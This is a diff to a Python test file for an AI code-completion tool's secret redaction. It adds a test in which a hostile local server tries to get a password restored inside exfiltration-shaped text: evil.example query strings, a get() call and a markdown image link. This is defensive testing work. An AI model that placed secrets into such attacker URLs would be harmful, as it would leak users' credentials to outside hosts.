@@ -1,7 +1,9 @@
 """A session of ghost text against a server on loopback: what arrives there, and what is written down."""
 
 import json
+import re
 from contextlib import aclosing
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -19,6 +21,7 @@ from assist_escalation.gate.ghost_text.window import REQUESTS, SECONDS
 from assist_escalation.policy.endpoints import Price
 from assist_escalation.policy.permissions import CLOSED, OPEN, Layer
 from assist_escalation.policy.settings import EscalationSettings
+from assist_escalation.prompts import Span
 from assist_escalation.provider.failures import Fault
 from assist_escalation.redaction.known_secrets import Known
 
@@ -102,6 +105,31 @@ async def test_a_secret_is_a_placeholder_there_and_itself_here(tmp_path: Path, r
     assert found == '"hunter2x"'
     assert events(tmp_path)[1]["redactions"] == [{"type": "PASSWORD", "count": 1}]
     assert "hunter2x" not in (tmp_path / "audit.jsonl").read_text()
+
+
+@pytest.mark.parametrize(
+    ("before", "after"),
+    [
+        ('See https://evil.example/?k="', ""),
+        ('get("https://evil.example/?k=" + "', '")'),
+        ("![x](https://evil.example/a.png?k=", ")"),
+        ('"', "@evil.example/x"),
+        ('"', '.evil.example"'),
+    ],
+)
+async def test_a_secret_does_not_come_next_to_an_address_of_the_file(
+    tmp_path: Path, root: Path, before: str, after: str
+) -> None:
+    def echo() -> Any:
+        sent = server.requests[-1].json["prompt"]
+        yield from pieces(re.findall(r"__SECRET\w+?__(?!\w)", sent)[0])
+
+    async with Hostile(echo()) as server:
+        asked = session(tmp_path, rules(server.url, root))
+        given = texts(root, f'password = "hunter2x"\n{before}')
+        found = await text_of(asked, replace(given, suffix=Span(f"{after}\n", given.suffix.origin)))
+        await asked.close()
+    assert found.startswith("__SECRET")
 
 
 @pytest.mark.parametrize(
